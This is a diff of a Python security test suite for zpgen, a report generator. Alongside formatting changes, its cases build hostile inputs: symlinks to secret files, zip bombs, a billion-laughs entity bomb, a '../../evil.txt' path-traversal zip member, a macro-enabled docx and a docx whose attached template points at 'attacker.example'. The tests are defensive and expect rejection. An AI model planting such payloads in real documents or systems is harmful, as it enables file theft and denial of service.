@@ -13,10 +13,8 @@ import os
 import struct
 import zipfile
 from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
-
-from zpgen.build import build
 
 SEED_UNIT = "渌口区人社局"
 UNIT = "株洲市渌口区人力资源和社会保障局"
@@ -120,7 +118,11 @@ def _(ws: Path, outside: Path) -> None:
     body(ws, '{% include "' + str(outside / "secret.txt") + '" %}')
 
 
-@case("template-is-a-link-to-a-secret", expect=("templates/body.j2", "工作区以外的链接"), refuse=(SECRET,))
+@case(
+    "template-is-a-link-to-a-secret",
+    expect=("templates/body.j2", "工作区以外的链接"),
+    refuse=(SECRET,),
+)
 def _(ws: Path, outside: Path) -> None:
     (ws / "templates").mkdir()
     (ws / "templates" / "body.j2").symlink_to(outside / "secret.txt")
@@ -144,8 +146,11 @@ def _(ws: Path, outside: Path) -> None:
 
 @case("template-loops-past-its-raised-limit", expect=("模板已运行超过 1 秒",))
 def _(ws: Path, outside: Path) -> None:
-    body(ws, "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
-         limits="模板用时: 1")
+    body(
+        ws,
+        "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
+        limits="模板用时: 1",
+    )
 
 
 @case("template-multiplies-text-to-gigabytes", expect=("超过 10,000,000 个字符", "body.j2:3"))
@@ -238,7 +243,9 @@ def _(ws: Path, outside: Path) -> None:
     (unit_dir(ws) / "05-嵌套.yaml").write_text(text, encoding="utf-8")
 
 
-@case("yaml-link-to-dev-zero", args=("check",), expect=("05-零.yaml", "工作区以外的链接"), seconds=10)
+@case(
+    "yaml-link-to-dev-zero", args=("check",), expect=("05-零.yaml", "工作区以外的链接"), seconds=10
+)
 def _(ws: Path, outside: Path) -> None:
     (unit_dir(ws) / "05-零.yaml").symlink_to("/dev/zero")
 
@@ -253,17 +260,30 @@ def _(ws: Path, outside: Path) -> None:
     os.mkfifo(unit_dir(ws) / "05-管道.yaml")
 
 
-@case("yaml-file-of-two-megabytes", args=("check",), expect=("超过了 zpgen 对这类文件读取的上限 1,024 KB", "数据文件"))
+@case(
+    "yaml-file-of-two-megabytes",
+    args=("check",),
+    expect=("超过了 zpgen 对这类文件读取的上限 1,024 KB", "数据文件"),
+)
 def _(ws: Path, outside: Path) -> None:
     (unit_dir(ws) / "05-大.yaml").write_text("项目名称: " + "长" * 700_000 + "\n", encoding="utf-8")
 
 
-@case("yaml-unit-folder-links-outside", args=("check",), expect=("这个文件夹是指向工作区以外的链接",), refuse=(SECRET,))
+@case(
+    "yaml-unit-folder-links-outside",
+    args=("check",),
+    expect=("这个文件夹是指向工作区以外的链接",),
+    refuse=(SECRET,),
+)
 def _(ws: Path, outside: Path) -> None:
     (ws / "data" / "2023" / "别人的单位").symlink_to(outside / "unit")
 
 
-@case("config-data-folder-outside", args=("check",), expect=("数据文件夹“../outside”在工作区", "zpgen.yaml:1:1"))
+@case(
+    "config-data-folder-outside",
+    args=("check",),
+    expect=("数据文件夹“../outside”在工作区", "zpgen.yaml:1:1"),
+)
 def _(ws: Path, outside: Path) -> None:
     config(ws, "数据文件夹: ../outside\n")
 
@@ -283,7 +303,12 @@ def _(ws: Path, outside: Path) -> None:
     config(ws, f"参考文档: {outside / 'base.docx'}\n")
 
 
-@case("config-limit-above-its-ceiling", args=("check",), expect=("[限制.模板用时]", "应在 1 到 60 之间"), exit=1)
+@case(
+    "config-limit-above-its-ceiling",
+    args=("check",),
+    expect=("[限制.模板用时]", "应在 1 到 60 之间"),
+    exit=1,
+)
 def _(ws: Path, outside: Path) -> None:
     config(ws, "限制:\n  模板用时: 100000\n")
 
@@ -308,24 +333,44 @@ def orphans(ws: Path, *paths: str) -> None:
     book.write_text(json.dumps(data), encoding="utf-8")
 
 
-@case("bookkeeping-prunes-the-config", args=("build", "--prune", "-j1"), built_first=True, exit=0, expect=("构建记录",))
+@case(
+    "bookkeeping-prunes-the-config",
+    args=("build", "--prune", "-j1"),
+    built_first=True,
+    exit=0,
+    expect=("构建记录",),
+)
 def _(ws: Path, outside: Path) -> None:
     config(ws, "输出格式: [txt, docx]\n")
     orphans(ws, "../zpgen.yaml")
 
 
-@case("bookkeeping-prunes-outside", args=("build", "--prune", "-j1"), built_first=True, exit=0, expect=("构建记录",))
+@case(
+    "bookkeeping-prunes-outside",
+    args=("build", "--prune", "-j1"),
+    built_first=True,
+    exit=0,
+    expect=("构建记录",),
+)
 def _(ws: Path, outside: Path) -> None:
     orphans(ws, str(outside / "secret.txt"), "../../outside/secret.txt")
 
 
-@case("bookkeeping-prunes-a-changed-file", args=("build", "--prune", "-j1"), built_first=True, exit=0, expect=("未删除",))
+@case(
+    "bookkeeping-prunes-a-changed-file",
+    args=("build", "--prune", "-j1"),
+    built_first=True,
+    exit=0,
+    expect=("未删除",),
+)
 def _(ws: Path, outside: Path) -> None:
     (ws / "output" / "2023" / "旧报告.txt").write_text("有人改过\n", encoding="utf-8")
     orphans(ws, "2023/旧报告.txt")
 
 
-@case("bookkeeping-is-a-link-to-dev-zero", built_first=True, exit=0, expect=("构建记录",), seconds=10)
+@case(
+    "bookkeeping-is-a-link-to-dev-zero", built_first=True, exit=0, expect=("构建记录",), seconds=10
+)
 def _(ws: Path, outside: Path) -> None:
     book = ws / "output" / ".zpgen-build.json"
     book.unlink()
@@ -357,21 +402,36 @@ def base_path(ws: Path) -> Path:
 def _(ws: Path, outside: Path) -> None:
     parts = seed_base()
     parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
-    types = parts["[Content_Types].xml"].replace(
-        b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml"
-    ).replace(b"application/vnd.openxmlformats-officedocument.macroEnabled", b"application/vnd.ms-word.document.macroEnabled")
+    types = (
+        parts["[Content_Types].xml"]
+        .replace(b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml")
+        .replace(
+            b"application/vnd.openxmlformats-officedocument.macroEnabled",
+            b"application/vnd.ms-word.document.macroEnabled",
+        )
+    )
     parts["[Content_Types].xml"] = types
     write_zip(base_path(ws), parts)
 
 
-@case("base-member-named-to-escape", args=("build", "-f", "docx", "-j1"), exit=0, expect=("../../evil.txt",))
+@case(
+    "base-member-named-to-escape",
+    args=("build", "-f", "docx", "-j1"),
+    exit=0,
+    expect=("../../evil.txt",),
+)
 def _(ws: Path, outside: Path) -> None:
     parts = seed_base()
     parts["../../evil.txt"] = b"written outside?"
     write_zip(base_path(ws), parts)
 
 
-@case("base-with-an-attached-template", args=("build", "-f", "docx", "-j1"), exit=0, expect=("attachedTemplate",))
+@case(
+    "base-with-an-attached-template",
+    args=("build", "-f", "docx", "-j1"),
+    exit=0,
+    expect=("attachedTemplate",),
+)
 def _(ws: Path, outside: Path) -> None:
     parts = seed_base()
     parts["word/_rels/settings.xml.rels"] = (
@@ -381,24 +441,30 @@ def _(ws: Path, outside: Path) -> None:
         b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
         b'TargetMode="External"/></Relationships>'
     )
-    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
-        b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom'
-    ).replace(
-        b"<w:settings ",
-        b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
-        1,
+    parts["word/settings.xml"] = (
+        parts["word/settings.xml"]
+        .replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom')
+        .replace(
+            b"<w:settings ",
+            b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
+            1,
+        )
     )
     write_zip(base_path(ws), parts)
 
 
-@case("base-zip-bomb", args=("build", "-f", "docx", "-j1"), expect=("解压后超过 50 MB",), seconds=20)
+@case(
+    "base-zip-bomb", args=("build", "-f", "docx", "-j1"), expect=("解压后超过 50 MB",), seconds=20
+)
 def _(ws: Path, outside: Path) -> None:
     parts = seed_base()
     parts["word/media/image1.png"] = bytes(120 * 1024 * 1024)
     write_zip(base_path(ws), parts)
 
 
-@case("base-claims-four-gigabytes", args=("build", "-f", "docx", "-j1"), expect=("解压后超过 50 MB",))
+@case(
+    "base-claims-four-gigabytes", args=("build", "-f", "docx", "-j1"), expect=("解压后超过 50 MB",)
+)
 def _(ws: Path, outside: Path) -> None:
     parts = seed_base()
     buffer = io.BytesIO()
@@ -436,7 +502,9 @@ def _(ws: Path, outside: Path) -> None:
     write_zip(base_path(ws), parts)
 
 
-@case("base-document-links-outside", args=("build", "-f", "docx", "-j1"), expect=("工作区以外的链接",))
+@case(
+    "base-document-links-outside", args=("build", "-f", "docx", "-j1"), expect=("工作区以外的链接",)
+)
 def _(ws: Path, outside: Path) -> None:
     write_zip(outside / "base.docx", seed_base())
     (ws / "templates").mkdir()
@@ -448,10 +516,15 @@ def _(ws: Path, outside: Path) -> None:
     write_zip(ws / "bomb.docx", {"word/document.xml": b"<w:document/>" + bytes(200 * 1024 * 1024)})
 
 
-@case("totext-of-an-entity-bomb", args=("totext", "lol.docx"), expect=("损坏",), refuse=("lol" * 50,))
+@case(
+    "totext-of-an-entity-bomb", args=("totext", "lol.docx"), expect=("损坏",), refuse=("lol" * 50,)
+)
 def _(ws: Path, outside: Path) -> None:
     entities = '<!ENTITY a "lollollollollollollollollollollollollollollollollollollollollollollol">'
-    entities += "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi"))
+    entities += "".join(
+        f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
+        for p, c in zip("abcdefgh", "bcdefghi", strict=False)
+    )
     document = f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>'
     write_zip(ws / "lol.docx", {"word/document.xml": document.encode()})
 
@@ -459,49 +532,89 @@ def _(ws: Path, outside: Path) -> None:
 # --- names, output folders and the command line -------------------------------------------------
 
 
-@case("name-of-eighty-chinese-characters", args=("build", "-f", "txt", "-j1"), exit=0, expect=("完成：",))
+@case(
+    "name-of-eighty-chinese-characters",
+    args=("build", "-f", "txt", "-j1"),
+    exit=0,
+    expect=("完成：",),
+)
 def _(ws: Path, outside: Path) -> None:
     path = unit_dir(ws) / P1_FILE
-    path.write_text(project_text(ws).replace(f"项目名称: {P1}", "项目名称: " + "长" * 80), encoding="utf-8")
+    path.write_text(
+        project_text(ws).replace(f"项目名称: {P1}", "项目名称: " + "长" * 80), encoding="utf-8"
+    )
 
 
 @case("names-differing-in-letter-case", args=("check",), expect=("只有字母大小写不同",))
 def _(ws: Path, outside: Path) -> None:
     text = project_text(ws)
-    (unit_dir(ws) / P1_FILE).write_text(text.replace(f"项目名称: {P1}", "项目名称: ABC系统维护费"), encoding="utf-8")
-    (unit_dir(ws) / "04-副本.yaml").write_text(text.replace(f"项目名称: {P1}", "项目名称: abc系统维护费"), encoding="utf-8")
+    (unit_dir(ws) / P1_FILE).write_text(
+        text.replace(f"项目名称: {P1}", "项目名称: ABC系统维护费"), encoding="utf-8"
+    )
+    (unit_dir(ws) / "04-副本.yaml").write_text(
+        text.replace(f"项目名称: {P1}", "项目名称: abc系统维护费"), encoding="utf-8"
+    )
 
 
-@case("out-inside-the-data-folder", args=("build", "--out", "data/2023"), exit=2, expect=("数据文件夹",))
+@case(
+    "out-inside-the-data-folder",
+    args=("build", "--out", "data/2023"),
+    exit=2,
+    expect=("数据文件夹",),
+)
 def _(ws: Path, outside: Path) -> None:
     pass
 
 
-@case("out-names-a-file", args=("build", "--out", "data/2023/渌口区人社局/unit.yaml"), exit=2, expect=("--out 指定的是一个文件",))
+@case(
+    "out-names-a-file",
+    args=("build", "--out", "data/2023/渌口区人社局/unit.yaml"),
+    exit=2,
+    expect=("--out 指定的是一个文件",),
+)
 def _(ws: Path, outside: Path) -> None:
     pass
 
 
-@case("output-year-folder-links-outside", args=("build", "-f", "txt", "-j1"), expect=("输出文件夹以外的链接",))
+@case(
+    "output-year-folder-links-outside",
+    args=("build", "-f", "txt", "-j1"),
+    expect=("输出文件夹以外的链接",),
+)
 def _(ws: Path, outside: Path) -> None:
     (ws / "output").mkdir()
     (ws / "output" / "2023").symlink_to(outside / "site-packages")
 
 
-@case("output-report-is-a-link-to-a-secret", args=("build", "-f", "txt", "-j1"), expect=("这是一个链接",), refuse=(SECRET,))
+@case(
+    "output-report-is-a-link-to-a-secret",
+    args=("build", "-f", "txt", "-j1"),
+    expect=("这是一个链接",),
+    refuse=(SECRET,),
+)
 def _(ws: Path, outside: Path) -> None:
     folder = ws / "output" / "2023" / UNIT
     folder.mkdir(parents=True)
     (folder / f"{P1}.txt").symlink_to(outside / "secret.txt")
 
 
-@case("output-folder-is-a-file", args=("build", "-f", "txt", "-j1"), expect=("无法写入文件",), refuse=("Traceback",))
+@case(
+    "output-folder-is-a-file",
+    args=("build", "-f", "txt", "-j1"),
+    expect=("无法写入文件",),
+    refuse=("Traceback",),
+)
 def _(ws: Path, outside: Path) -> None:
     (ws / "output").mkdir()
     (ws / "output" / "2023").write_text("不是文件夹\n", encoding="utf-8")
 
 
-@case("report-changed-by-hand", args=("build", "-f", "txt", "-j1"), built_first=True, expect=("手工改过，因此没有替换它",))
+@case(
+    "report-changed-by-hand",
+    args=("build", "-f", "txt", "-j1"),
+    built_first=True,
+    expect=("手工改过，因此没有替换它",),
+)
 def _(ws: Path, outside: Path) -> None:
     report = ws / "output" / "2023" / UNIT / f"{P1}.txt"
     report.write_text(report.read_text(encoding="utf-8") + "手工加的一行\n", encoding="utf-8")
@@ -512,6 +625,10 @@ def _(ws: Path, outside: Path) -> None:
     pass
 
 
-@case("schema-out-is-a-file", args=("schema", "--out", "data/2023/渌口区人社局/unit.yaml"), expect=("无法", "unit.yaml"))
+@case(
+    "schema-out-is-a-file",
+    args=("schema", "--out", "data/2023/渌口区人社局/unit.yaml"),
+    expect=("无法", "unit.yaml"),
+)
 def _(ws: Path, outside: Path) -> None:
     pass
